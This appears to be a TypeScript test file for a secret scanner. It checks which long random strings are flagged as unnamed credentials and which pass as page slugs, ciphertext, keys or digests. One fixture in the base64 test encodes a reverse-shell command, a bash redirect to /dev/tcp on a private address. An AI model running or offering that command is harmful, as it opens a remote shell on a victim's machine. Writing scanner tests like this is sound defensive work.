/** Long runs in nobody's name: which of them are somebody's token, and which an address, a text or a piece of something. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { bytes, characters } from '../support/secrets.ts';
import { scan, valueOf } from './scanning.ts';

const BASE62 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const RUN = characters('in nobody’s name 2', BASE62, 40);
/** As sites number their pages. */
const PAGE = characters('a page', BASE62, 20);

function runs(text: string): string[] {
  return scan(text).findings.filter(({ rule }) => rule.id === 'unnamed-token').map(valueOf);
}

test('a run by itself is one, and so is the end of an address that lets in whoever knows it', () => {
  const quoted = [`"${RUN}"`, `"sessionId": "${RUN}"`, `"${RUN}",\n    "${RUN}"`, `"${RUN}"\n"${RUN}"\n`];
  for (const text of [...quoted, `${RUN}\n`, `curl https://hooks.corp.net/services/${RUN}`, `[join](/invite/${RUN})`])
    assert.ok(runs(text).some((run) => run.endsWith(RUN)), text);
});

test('what an address ends in is the name of a page, a list or a picture', () => {
  for (const text of [
    `see <https://news.corp.net/s/${RUN}>`,
    `https://lists.corp.net/list/users@lists.corp.net/thread/${RUN}/`,
    `https://video.corp.net/playlist?list=${RUN}`,
    `* [Fields](/broken/pages/${PAGE}) and more`,
    `<a href="/pages/of/the/manual/${RUN}">`,
  ])
    assert.deepEqual(runs(text), [], text);
});

test('base64 of a text is what it stands for, and of one word may be a key', () => {
  const key = Buffer.from(`shop-${bytes('packed', 16).toString('hex')}`).toString('base64');
  assert.deepEqual(runs(`data: ${key}\n`), [key]);
  const texts = [
    'leaving passwords in images is not so secure',
    '{"admin":"false","user":"Jerry"}',
    '/bin/bash -i >& /dev/tcp/10.0.0.1/21',
  ];
  for (const text of texts)
    assert.deepEqual(runs(`echo ${Buffer.from(text).toString('base64')} | base64 -d\n`), [], text);
});

test('data that says what it is, ciphertext, and pieces of other things are no tokens', () => {
  const body = bytes('a body', 60).toString('base64');
  const sshKey = Buffer.concat([Buffer.from('\0\0\0\x07ssh-rsa\0\0\0\x03'), bytes('ssh', 120)]).toString('base64');
  for (const text of [
    Buffer.concat([Buffer.from('Salted__'), bytes('salted', 40)]).toString('base64'),
    Buffer.concat([Buffer.from([0xac, 0xed, 0, 5]), bytes('java', 41)]).toString('base64'),
    `b"${sshKey.slice(0, 64)}"\n    b"${sshKey.slice(64, 128)}"`,
    `Content-Type: multipart/form-data; boundary=----WebKitFormBoundary${RUN.slice(0, 16)}\n`,
    `------WebKitFormBoundary${RUN.slice(0, 16)}--\n`,
    String.raw`"raw": "\r\n------WebKitFormBoundary${RUN.slice(0, 16)}\r\nContent-Type"`,
    `<script id="asciicast-${RUN.slice(0, 25)}" async></script>`,
    `data:image/x-icon;base64,${body.slice(0, 20)}%2B${RUN}%2F${RUN}`,
    `ALPHABET = "${BASE62}"`,
    `"gss-group14-sha1-${body.slice(0, 22)}==",`,
    `script-src 'nonce-${RUN}'`,
    `pin("sha256/${body.slice(0, 43)}=")`,
    `"iVBORw0KGgo${body.slice(0, 40)}" +\n    "${body.slice(40)}";`,
    `"H4sIAAAAAAAA${RUN}"`,
    `"MIIBpDCCAQ2gAwIB${RUN}"`,
    `ech=AED+DQA8${RUN}`,
    `cache in /var/folders/wc/${RUN}/T/`,
    `<a name="/s:9Acme${RUN}"></a>`,
    `<input name="csrfmiddlewaretoken" value="${RUN}">`,
    `"toolUseId": "${RUN}"`,
    `x-amz-cf-id: ${RUN}==`,
    `Signature: sig1=:${body.slice(0, 64)}==:`,
    `cnonce = "${RUN}"`,
    `{"id": "chatcmpl-${RUN}"}`,
    `"user_handle": "${RUN}"`,
    `DKIM-Signature: v=1; bh=${RUN}=`,
  ])
    assert.deepEqual(runs(text), [], text);
});

test('a digest that stands twice is explained both times', () => {
  const digest = `${characters('a sum', BASE62, 43)}=`;
  assert.deepEqual(runs(`a.corp.net/x v1.0.2/go.mod h1:${digest}\na.corp.net/x v1.0.3/go.mod h1:${digest}\n`), []);
});
